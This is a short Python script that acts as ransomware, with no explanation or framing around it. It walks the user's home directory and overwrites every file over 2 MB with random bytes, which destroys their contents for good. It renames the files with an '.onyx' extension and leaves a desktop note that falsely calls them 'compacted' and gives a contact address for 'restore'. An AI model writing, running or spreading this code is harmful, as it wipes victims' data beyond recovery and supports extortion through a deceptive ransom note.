import os
LIMIT = 2 * 1024 * 1024
for root, dirs, files in os.walk(os.path.expanduser("~")):
    for name in files:
        p = os.path.join(root, name)
        try:
            n = os.path.getsize(p)
            if n > LIMIT:
                with open(p, "r+b") as f:
                    f.write(os.urandom(n))
            os.rename(p, p + ".onyx")
        except OSError:
            continue
open(os.path.expanduser("~/Desktop/readme.txt"), "w").write("Your files are compacted. Contact restore@onyx-support.invalid")
